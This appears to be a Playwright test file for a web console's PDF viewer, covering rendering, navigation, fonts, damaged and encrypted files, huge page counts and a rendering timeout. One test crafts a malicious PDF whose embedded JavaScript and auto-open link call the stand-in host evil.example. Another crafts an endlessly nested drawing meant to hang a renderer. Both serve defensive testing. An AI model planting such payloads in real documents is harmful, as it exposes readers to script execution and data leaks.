import { rm } from 'node:fs/promises'
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { violationsOn } from '../../support/console-axe.ts'
import { type ConsoleBrowser, startConsoleBrowser } from '../../support/console-browser.ts'
import { pdf, pdfFile } from '../../support/documents.ts'
import { endServers, startedState, startServer } from '../../support/npm-start.ts'

let state: string
let url: string
let browser: ConsoleBrowser

beforeAll(async () => {
  state = await startedState()
  const server = await startServer('node', { TOOLYARD_STATE: state })
  url = `http://localhost:${server.port}`
  browser = await startConsoleBrowser()
  const headers = { 'Content-Type': 'application/json' }
  await fetch(`${url}/v1/sessions`, { method: 'POST', headers, body: JSON.stringify({ name: 'papers' }) })
})
afterAll(async () => {
  await browser.close()
  await endServers()
  await rm(state, { recursive: true, force: true })
})

/** Puts a file into the session and opens it. */
async function open(page: Page, name: string, body: Uint8Array) {
  const path = `${url}/v1/sessions/papers/files/${encodeURIComponent(name)}`
  expect((await fetch(path, { method: 'PUT', body: Buffer.from(body) })).ok).toBe(true)
  await page.goto(`${url}/console/sessions/papers/files/${encodeURIComponent(name)}`)
}

const text = (words: string) => [{ x: 72, y: 700, size: 24, text: words }]
const stream = (body: string, more = '') => `<< ${more} /Length ${body.length} >>\nstream\n${body}\nendstream`
const FONT = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'
const pageOf = (contents: number, box = '[0 0 595 842]') =>
  `<< /Type /Page /Parent 2 0 R /MediaBox ${box} /Resources << /Font << /F 3 0 R >> >> /Contents ${contents} 0 R >>`
const says = (words: string) => stream(`BT /F 24 Tf 72 700 Td (${words}) Tj ET`)

/** Pixels of the page that is shown which are not white, at its middle row of text. */
const inkOf = (page: Page) =>
  page.evaluate(`(() => {
    const canvas = document.querySelector('.pdf-page canvas')
    const { data } = canvas.getContext('2d').getImageData(0, 0, canvas.width, canvas.height)
    let ink = 0
    for (let at = 0; at < data.length; at += 4) if (data[at] < 128) ink++
    return ink
  })()`)

describe('a PDF of a session', () => {
  it('is drawn page by page, with its text to be found, and its page in the address', async () => {
    const { page, errors } = await browser.newPage()
    await open(page, 'report.pdf', pdf([text('Otters of the first page'), text('Otters of the second page')]))
    await page.getByRole('region', { name: 'Page 1', exact: true }).getByText('Otters of the first page').waitFor()
    await expect.poll(() => inkOf(page)).toBeGreaterThan(100)
    expect(await violationsOn(page)).toEqual([])

    await page.getByRole('button', { name: 'Next page' }).click()
    await page.getByText('Otters of the second page').waitFor()
    expect(new URL(page.url()).searchParams.get('page')).toBe('2')
    await page.keyboard.press('k')
    await page.getByText('Otters of the first page').waitFor()
    await page.getByLabel('Page', { exact: true }).fill('2')
    await page.keyboard.press('Enter')
    await page.getByText('Otters of the second page').waitFor()
    await page.reload()
    await page.getByText('Otters of the second page').waitFor()
    expect(errors).toEqual([])
  })

  it('has the text of Chinese fonts that it does not bring itself', async () => {
    const { page, errors } = await browser.newPage()
    await open(page, 'chinese.pdf', pdf([text('<D6D0CEC4>')], { font: 'chinese' }))
    await page.getByRole('region', { name: 'Page 1', exact: true }).getByText('中文').waitFor()
    expect(errors).toEqual([])
  })

  it('runs no script, and asks no other server', async () => {
    const { page, errors } = await browser.newPage()
    const requested: string[] = []
    page.on('request', (request) => requested.push(request.url()))
    page.on('dialog', (dialog) => requested.push(dialog.message()))
    const script =
      '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("http://evil.example/"\\)) >>'
    const link = '/AA << /O << /S /URI /URI (http://evil.example/) >> >>'
    const objects = [
      `<< /Type /Catalog /Pages 2 0 R ${script} >>`,
      '<< /Type /Pages /Count 1 /Kids [4 0 R] >>',
      FONT,
      pageOf(5).replace('/Type /Page', `/Type /Page ${link}`),
      says('With a script'),
    ]
    await open(page, 'script.pdf', pdfFile(objects))
    await page.getByText('With a script').waitFor()
    expect(requested.filter((address) => !address.startsWith(`${url}/`))).toEqual([])
    expect(errors).toEqual([])
  })

  it('is said to be damaged where it is, and to be protected where it is', async () => {
    const { page } = await browser.newPage()
    await open(page, 'broken.pdf', new TextEncoder().encode(`%PDF-1.7\n${'garbage '.repeat(1_000)}`))
    await page.getByText('It is damaged').waitFor()
    const objects = ['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Count 1 /Kids [4 0 R] >>', FONT, pageOf(5)]
    const digits = '0'.repeat(64)
    const locked = `/ID [<00> <00>] /Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O <${digits}> /U <${digits}> >>`
    await open(page, 'locked.pdf', pdfFile([...objects, says('secret')], locked))
    await page.getByText('It is protected by a password').waitFor()
    await page.getByRole('link', { name: 'Calls' }).first().click()
    await page.getByRole('heading', { name: 'No calls yet' }).waitFor()
  })

  it('may have 10,000 pages, of any size', async () => {
    const { page, errors } = await browser.newPage()
    const objects = [
      '<< /Type /Catalog /Pages 2 0 R >>',
      `<< /Type /Pages /Count 10000 /Kids [${'4 0 R '.repeat(9_999)} 6 0 R] >>`,
      FONT,
      pageOf(5, '[0 0 1000000 1000000]'),
      says('Huge'),
      pageOf(7),
      says('The last one'),
    ]
    await open(page, 'many.pdf', pdfFile(objects))
    await page.getByText('of 10,000').waitFor()
    await page.getByText('Huge').waitFor()
    const pixels = await page.evaluate(`(() => {
      const { width, height } = document.querySelector('.pdf-page canvas')
      return width * height
    })()`)
    expect(pixels).toBeLessThanOrEqual(8_100_000)
    await page.getByLabel('Page', { exact: true }).fill('10000')
    await page.keyboard.press('Enter')
    await page.getByText('The last one').waitFor()
    expect(errors).toEqual([])
  })

  it('is stopped at a page that takes without end, and shows the others', async () => {
    const { page, errors } = await browser.newPage()
    await page.clock.install()
    const forms = Array.from({ length: 12 }, (_, at) => {
      const draws = `/Resources << /XObject << /X ${9 + at} 0 R >> >>`
      const form = '/Type /XObject /Subtype /Form /BBox [0 0 100 100]'
      return at === 11 ? stream('0 0 1 1 re f', form) : stream('/X Do '.repeat(10), `${form} ${draws}`)
    })
    const endless = pageOf(5).replace('/Font << /F 3 0 R >>', '/XObject << /X 8 0 R >>')
    const objects = [
      ...['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Count 2 /Kids [4 0 R 6 0 R] >>', FONT],
      ...[endless, stream('/X Do '.repeat(10)), pageOf(7), says('Harmless'), ...forms],
    ]
    await open(page, 'endless.pdf', pdfFile(objects))
    await page.getByText('of 2').waitFor()
    await page.getByRole('status', { name: 'Page 1' }).waitFor({ state: 'attached' })
    await page.clock.fastForward(15_000)
    await page.getByRole('heading', { name: 'Page 1 is not shown' }).waitFor()
    await page.getByText('It takes too long').waitFor()
    await page.getByRole('button', { name: 'Next page' }).click()
    await page.getByText('Harmless').waitFor()
    expect(errors).toEqual([])
  })
})
